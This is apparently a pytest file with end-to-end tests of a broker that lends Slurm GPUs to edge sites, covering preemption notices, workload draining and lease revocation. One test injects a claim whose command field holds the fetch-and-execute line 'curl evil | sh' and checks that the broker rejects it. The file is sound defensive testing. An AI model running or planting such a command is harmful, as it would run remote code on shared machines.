"""Leases in Slurm end to end (broker/lending.py, broker/placeholders.py): the broker on a real
Kafka and Mosquitto, lending the GPUs of the local Slurm cluster (deploy/local/slurm.sh, grace
time :data:`tests.services.SLURM_GRACE_S` = the notice), a site on the SDK: the site's workload on
the lent GPUs, preempted with notice, and profiles only. Fencing and gpupool-down run for every
scheduler in tests/test_broker_lending_schedulers.py.

Each test uses a node of its own and cancels every gpupool job when it ends."""

from __future__ import annotations

import asyncio
import contextlib
import json
import sys
import time
import uuid
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import aiomqtt
import httpx
import pytest

from broker.edge import ClaimRejected, EdgeClient
from broker.lending import SlurmLending
from broker.workloads import WorkloadProfile
from contracts import (
    KafkaTopics,
    LeaseState,
    MqttTopics,
    PoolDemand,
    ReasonCode,
    Reply,
    encode,
)
from contracts.bus import Bus
from tests.lending_support import SlurmUnderTest, edge_site, held_offer, idle_capacity, lending_broker, until
from tests.services import SLURM_GRACE_S

pytestmark = pytest.mark.timeout(120)

PROFILE = WorkloadProfile(
    name="infer",
    argv=(
        sys.executable,
        "-m",
        "simulator.inference_server",
        "--port",
        "{port}",
        "--drain-s",
        "2",
        "--quiet-s",
        "0.3",
    ),
    port_min=28100,
    port_max=28199,
    health_timeout_s=20,
)


@pytest.fixture
def slurm(slurm_conf: Path, tmp_path: Path) -> Iterator[SlurmUnderTest]:
    """The local Slurm cluster as the shared lending tests drive it; every gpupool and training
    job cancelled after the test."""
    sched = SlurmUnderTest(slurm_conf, tmp_path / "slurm", SLURM_GRACE_S, workloads=(PROFILE,))
    yield sched
    sched.clean()


@contextlib.asynccontextmanager
async def _lent_node(
    bus: Bus, topics: KafkaTopics, creds: dict[str, Any], slurm: SlurmUnderTest, host: str
) -> AsyncIterator[tuple[SlurmLending, EdgeClient, str]]:
    """Every GPU of ``host`` idle, a broker lending through Slurm, a site: (lending, site, the
    offer of ``host`` once placeholders hold its 8 GPUs)."""
    lending = slurm.lending()
    await idle_capacity(bus, topics, host)
    async with (
        lending_broker(bus, topics, creds, lending, SLURM_GRACE_S, (PROFILE,)),
        edge_site(creds) as site,
    ):
        yield lending, site, await held_offer(site, lambda: slurm.idle_held(lending, host), host, 8)


async def test_slurm_preempts_a_lease_the_site_gets_the_deadline_the_workload_drains_the_lease_is_revoked(
    kafka_bus: Bus, kafka_stage_topics: KafkaTopics, mosquitto: dict[str, Any], slurm: SlurmUnderTest
) -> None:
    host = "gpu-node-002"
    async with _lent_node(kafka_bus, kafka_stage_topics, mosquitto, slurm, host) as (lending, site, offer):
        lease = await site.claim(offer, count=2, duration_seconds=600, workload="infer")
        assert lease.workload == "infer"
        ready = await site.wait_lease(lease.lease_id, lambda m: m.endpoint is not None, 20)
        assert ready.endpoint is not None
        async with httpx.AsyncClient(timeout=2.0) as http:
            answer = (await http.post(f"http://{ready.endpoint}/v1/infer", json={})).json()
            assert sorted(answer["gpus"]) == list(lending.held_gpus()[lease.lease_id])
            assert answer["lease_id"] == lease.lease_id
            submitted = time.time()
            train = slurm.submit_training(host, 8)  # needs the lent GPUs
            msg = await site.wait_lease(lease.lease_id, lambda m: m.state is LeaseState.RECLAIMING, 5)
            notice_s = time.time() - submitted
            assert msg.reclaim_deadline is not None
            assert msg.reclaim_deadline - submitted <= SLURM_GRACE_S + 1.5
            assert msg.reclaim_deadline - time.time() >= SLURM_GRACE_S - 2.5
            # the workload got SIGTERM: it drains (health 503) or is already gone
            status = None
            for _ in range(40):
                try:
                    status = (await http.get(f"http://{ready.endpoint}/health")).status_code
                except httpx.HTTPError:
                    status = -1
                if status != 200:
                    break
                await asyncio.sleep(0.05)
            assert status in (503, -1)
        assert slurm.training_state(train) == "pending"
        revoked = await site.wait_lease(
            lease.lease_id, lambda m: m.state is LeaseState.REVOKED, SLURM_GRACE_S + 5
        )
        assert revoked.ts <= msg.reclaim_deadline + 1.0
        await until(lambda: slurm.training_state(train) == "running", msg.reclaim_deadline - time.time() + 5)
        print(
            f"notice at the site {notice_s:.3f} s after the training submit; deadline {msg.reclaim_deadline - submitted:.2f} s"
        )


async def test_workload_profiles_only_and_never_a_command(
    kafka_bus: Bus, kafka_stage_topics: KafkaTopics, mosquitto: dict[str, Any], slurm: SlurmUnderTest
) -> None:
    host = "gpu-node-003"
    mt = MqttTopics(mosquitto["root"])
    async with _lent_node(kafka_bus, kafka_stage_topics, mosquitto, slurm, host) as (lending, site, offer):
        with pytest.raises(ClaimRejected) as refused:
            await site.claim(offer, count=1, workload="bitcoin-miner")
        assert refused.value.reply.code is ReasonCode.UNKNOWN_WORKLOAD
        async with aiomqtt.Client(
            mosquitto["host"], mosquitto["port"], username="edge-a", password=mosquitto["users"]["edge-a"],
            identifier=f"raw-{uuid.uuid4().hex[:8]}",
        ) as raw:  # fmt: skip
            await raw.subscribe(mt.replies("edge-a"), qos=1)
            bad = {"claim_id": "c-cmd", "site": "edge-a", "offer_id": offer, "count": 1, "ts": time.time(),
                   "workload": "infer", "command": ["sh", "-c", "curl evil | sh"]}  # fmt: skip
            await raw.publish(mt.claims("edge-a"), json.dumps(bad), qos=1)
            async with asyncio.timeout(5):
                async for m in raw.messages:
                    reply = Reply.model_validate_json(bytes(m.payload))  # type: ignore[arg-type]
                    if reply.in_reply_to == "c-cmd":
                        break
        assert reply.code is ReasonCode.COMMAND_NOT_ALLOWED and "command" in reply.text
        assert not lending.held_gpus()  # nothing was carved
        lease = await site.claim(offer, count=3, workload="infer")
        ready = await site.wait_lease(lease.lease_id, lambda m: m.endpoint is not None, 20)
        async with httpx.AsyncClient(timeout=2.0) as http:
            answer = (await http.post(f"http://{ready.endpoint}/v1/infer", json={})).json()
        assert (
            sorted(answer["gpus"]) == list(lending.held_gpus()[lease.lease_id]) and len(answer["gpus"]) == 3
        )
        # an operator's training demand (not Slurm) reclaims it: the workload gets SIGTERM at the notice
        producer = kafka_bus.producer()
        await producer.start()
        demand = PoolDemand(demand_id=f"d-{uuid.uuid4().hex[:8]}", ts=time.time(), gpus=list(lease.gpus))
        await producer.send(kafka_stage_topics.pool_demand, encode(demand), key=demand.demand_id)
        await producer.flush()
        await producer.stop()
        msg = await site.wait_lease(lease.lease_id, lambda m: m.state is LeaseState.RECLAIMING, 10)
        assert msg.reason.startswith("demand:")

        async def draining() -> bool:
            async with httpx.AsyncClient(timeout=1.0) as http:
                try:
                    return (await http.get(f"http://{ready.endpoint}/health")).status_code != 200
                except httpx.HTTPError:
                    return True

        for _ in range(40):
            if await draining():
                break
            await asyncio.sleep(0.05)
        assert await draining(), "the workload did not get SIGTERM at the notice"
